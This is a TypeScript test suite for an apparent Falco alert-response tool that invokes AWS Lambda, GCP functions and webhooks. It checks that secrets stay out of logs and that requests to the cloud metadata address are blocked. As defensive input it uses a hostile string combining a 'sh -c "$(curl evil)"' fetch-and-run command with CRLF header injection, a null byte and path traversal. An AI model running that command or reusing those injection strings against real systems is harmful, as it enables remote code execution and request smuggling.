import { afterEach, describe, expect, it } from 'vitest';
import { alertBody } from './alert.ts';
import { startGoogle } from './peers/google.ts';
import { startMoto } from './peers/moto.ts';
import { usePeer } from './peers/peer.ts';
import { startRecorder } from './peers/recorder.ts';
import { secretsWritten } from './secrets-written.ts';
import type { LogLine, Talon } from './talon.ts';
import { refuseTalon, TalonHome, type TalonOptions } from './talon-home.ts';

let home: TalonHome | undefined;
let talon: Talon | undefined;

async function start(options: TalonOptions): Promise<Talon> {
  home = await TalonHome.make(options);
  talon = await home.start();
  return talon;
}
afterEach(async () => {
  await talon?.stop();
  home?.remove();
  talon = undefined;
});

/** The result of the action for an alert with this rule and a hostile field. */
function act(rule: string): Promise<LogLine> {
  return talon!.result(alertBody({ rule, output: 'Shell "opened"', fields: { 'proc.cmdline': HOSTILE } }), {
    timeout: 30_000,
  });
}

const HOSTILE = 'sh -c "$(curl evil)"\r\nX-Injected: yes\u0000 ../../etc 🦅';

function rulesFor(actionner: string, actions: Readonly<Record<string, object>>): string {
  const rules = Object.entries(actions).map(([name, parameters]) => ({
    rule: `On ${name}`,
    match: { rules: [name] },
    actions: [{ action: `Do ${name}`, actionner, parameters }],
  }));
  return JSON.stringify(rules);
}

describe('aws:lambda', () => {
  const moto = usePeer(startMoto);
  const instance = usePeer(startRecorder);
  const rules = rulesFor('aws:lambda', {
    call: { aws_lambda_name: 'triage' },
    event: { aws_lambda_name: 'triage', aws_lambda_invocation_type: 'Event' },
    dry: { aws_lambda_name: 'triage', aws_lambda_invocation_type: 'DryRun' },
    absent: { aws_lambda_name: 'absent' },
  });
  const aws = { region: 'us-east-1', access_key: 'AKIAE2ETALON00000001', secret_key: 'aws-secret-f04c77' };
  const env = () => ({ AWS_ENDPOINT_URL: moto().url, AWS_EC2_METADATA_DISABLED: 'true' });

  it('calls the function with the alert, whose answer is in the log', async () => {
    await moto().makeLambda('triage');
    await start({ rules, settings: { aws }, env: env() });
    const result = await act('call');
    expect(result).toMatchObject({ status: 'success', actionner: 'aws:lambda', name: 'triage' });
    const payload = JSON.parse(result.output!) as Record<string, unknown>;
    expect(payload).toMatchObject({
      trace_id: result.trace_id,
      rule: 'call',
      output: 'Shell "opened"',
      priority: 'Notice',
      source: 'syscall',
      hostname: 'node-0',
      output_fields: { 'proc.name': 'bash', 'proc.cmdline': HOSTILE },
    });
    expect(await act('event')).toMatchObject({ status: 'success' });
    expect(await act('dry')).toMatchObject({ status: 'success' });
  });

  it('fails for a function that is not there, with what AWS says', async () => {
    await start({ rules, settings: { aws }, env: env() });
    expect(await act('absent')).toMatchObject({
      status: 'failure',
      error: expect.stringContaining('Function not found: arn:aws:lambda:us-east-1:123456789012:function:absent'),
    });
  });

  it('assumes a role with the external id, and acts as that role', async () => {
    await moto().record();
    const role = { role_arn: 'arn:aws:iam::123456789012:role/responder', external_id: 'external-secret-b2' };
    await start({ rules, settings: { aws: { ...aws, ...role } }, env: env() });
    expect(await act('call')).toMatchObject({ status: 'success' });
    const calls = await moto().recorded();
    const assumed = calls.filter(({ body }) => body.includes('Action=AssumeRole'));
    expect(assumed.length).toBeGreaterThan(0);
    const form = new URLSearchParams(assumed[0]!.body);
    expect(form.get('RoleArn')).toBe(role.role_arn);
    expect(form.get('ExternalId')).toBe(role.external_id);
    const invoked = calls.filter(({ url }) => url.includes('/invocations'));
    expect(invoked.map(keyOf)).toEqual([expect.stringMatching(/^ASIA/)]);
    expect(assumed.map(keyOf)).toEqual(assumed.map(() => aws.access_key));
    const secrets = [aws.secret_key, role.external_id];
    expect(await secretsWritten(talon!, home!, secrets)).toEqual([]);
  });

  it('adds what the instance says of itself, which needs the token of its metadata service', async () => {
    const asked: string[] = [];
    instance().reply(({ method, target, headers }) => {
      asked.push(`${method} ${target}`);
      if (target === '/latest/api/token') return { status: method === 'PUT' ? 200 : 405, body: 'imds-token-77aa' };
      if (headers['x-aws-ec2-metadata-token'] !== 'imds-token-77aa') return { status: 401 };
      if (target === '/latest/dynamic/instance-identity/document')
        return { status: 200, body: '{"region":"eu-west-3"}' };
      return { status: 404 };
    });
    const withContext = JSON.stringify([
      {
        rule: 'On call',
        match: { rules: ['call'] },
        actions: [
          {
            action: 'Do call',
            actionner: 'aws:lambda',
            additional_contexts: ['aws'],
            parameters: { aws_lambda_name: 'triage' },
          },
        ],
      },
    ]);
    const env = { AWS_ENDPOINT_URL: moto().url, AWS_EC2_METADATA_SERVICE_ENDPOINT: instance().url };
    await start({ rules: withContext, settings: { aws }, env });
    const { status, output } = await act('call');
    expect(status).toBe('success');
    // Of a context that is there in part, the rest is no reason to give it up.
    expect(JSON.parse(output!)).toMatchObject({ context: { 'aws.region': 'eu-west-3' } });
    expect(asked).toContain('PUT /latest/api/token');
  });

  it('refuses to start without credentials, and says so', async () => {
    const { code, stdout, stderr } = await refuseTalon({
      rules,
      settings: { aws: { region: 'us-east-1' } },
      env: env(),
    });
    expect(code).not.toBe(0);
    expect(stdout + stderr).toMatch(/credentials/i);
    expect(stdout + stderr).not.toMatch(/^\s+at /m);
  });
});

describe('gcp:function', () => {
  it('refuses to start with a credentials file that is none, and shows nothing of it', async () => {
    const credentials_path = '{"type": "service_account", "private_key": "gcp-secret-0e"';
    const { code, stdout, stderr } = await refuseTalon({ rules, settings: { gcp: { credentials_path } } });
    expect(code).not.toBe(0);
    expect(stdout + stderr).toContain('unable to load credentials from file');
    expect(stdout + stderr).not.toContain('gcp-secret-0e');
  });

  const google = usePeer(startGoogle);
  const rules = rulesFor('gcp:function', {
    call: { gcp_function_name: 'triage', gcp_function_location: 'us-central1' },
    crash: { gcp_function_name: 'crash', gcp_function_location: 'us-central1' },
    absent: { gcp_function_name: 'absent', gcp_function_location: 'us-central1' },
  });

  it('calls the function with the alert, with a token for it alone', async () => {
    google().deploy('triage', ({ body }) => ({ status: 200, body: `seen: ${JSON.parse(body).rule}` }));
    google().deploy('crash', () => ({ status: 500, body: 'boom' }));
    await start({ rules, env: google().env });
    expect(await act('call')).toMatchObject({
      status: 'success',
      name: 'triage',
      location: 'us-central1',
      function_response_status: '200',
      output: 'seen: call',
    });
    const call = google().requests.find(({ target }) => target === '/run/triage');
    expect(call?.headers['content-type']).toBe('application/json');
    expect(call?.headers['x-injected']).toBeUndefined();
    expect(JSON.parse(call!.body)).toMatchObject({ output_fields: { 'proc.cmdline': HOSTILE } });
    expect(await act('crash')).toMatchObject({
      status: 'failure',
      error: 'function invocation failed with status 500: boom',
    });
    expect(await act('absent')).toMatchObject({ status: 'failure', error: expect.stringContaining('not found') });
    const tokens = google().requests.flatMap(({ headers }) => headers.authorization?.slice('Bearer '.length) ?? []);
    expect(tokens.length).toBeGreaterThan(1);
    expect(await secretsWritten(talon!, home!, tokens)).toEqual([]);
  });
});

describe('webhook:call', () => {
  const endpoint = usePeer(startRecorder);
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a token of the rule
  const title = 'Saw ${PROC_CMDLINE}';
  const env = { TALON_SECRET_TICKETS: 'Bearer tickets-secret-5d' };
  const call = (more: object = {}) =>
    rulesFor('webhook:call', {
      call: {
        url: `${endpoint().url}/api/issues?team=soc`,
        secret_headers: { Authorization: 'TALON_SECRET_TICKETS' },
        headers: { 'X-Site': 'paris' },
        body: JSON.stringify({ title, labels: ['falco'] }),
        ...more,
      },
    });

  it('sends what the alert says as text of the body and nothing else', async () => {
    endpoint().reply(() => ({ status: 201, body: '{"id":7}' }));
    await start({ rules: call(), env });
    expect(await act('call')).toMatchObject({
      status: 'success',
      output: expect.stringContaining('answered 201 Created'),
    });
    const [request] = endpoint().requests;
    expect(request).toMatchObject({ method: 'POST', target: '/api/issues?team=soc' });
    expect(request!.headers).toMatchObject({
      authorization: env.TALON_SECRET_TICKETS,
      'x-site': 'paris',
      'content-type': 'application/json; charset=utf-8',
    });
    expect(request!.headers['x-injected']).toBeUndefined();
    expect(JSON.parse(request!.body)).toEqual({ title: `Saw ${HOSTILE}`, labels: ['falco'] });
    expect(await secretsWritten(talon!, home!, ['tickets-secret-5d'])).toEqual([]);
  });

  it('fails for another status than the rule expects', async () => {
    endpoint().reply(() => ({ status: 200 }));
    await start({ rules: call({ expected_status: '201' }), env });
    expect(await act('call')).toMatchObject({ status: 'failure', error: expect.stringContaining('answered 200 OK') });
  });

  it('sends nothing to metadata services, and nothing where it is sent on to', async () => {
    await start({ rules: call({ url: 'http://169.254.169.254/latest/meta-data/' }), env });
    expect(await act('call')).toMatchObject({ status: 'failure', error: expect.stringContaining('metadata service') });
    await talon!.stop();
    const before = endpoint().requests.length;
    endpoint().reply(() => ({ status: 307, headers: { location: 'http://169.254.169.254/latest/' } }));
    await start({ rules: call(), env });
    expect(await act('call')).toMatchObject({ status: 'failure', error: expect.stringContaining('answered 307') });
    expect(endpoint().requests.length).toBe(before + 1);
  });
});

/** The access key that signed a request. */
function keyOf({ headers }: { readonly headers: Readonly<Record<string, string>> }): string | undefined {
  return /Credential=(\w+)/.exec(headers.Authorization ?? headers.authorization ?? '')?.[1];
}
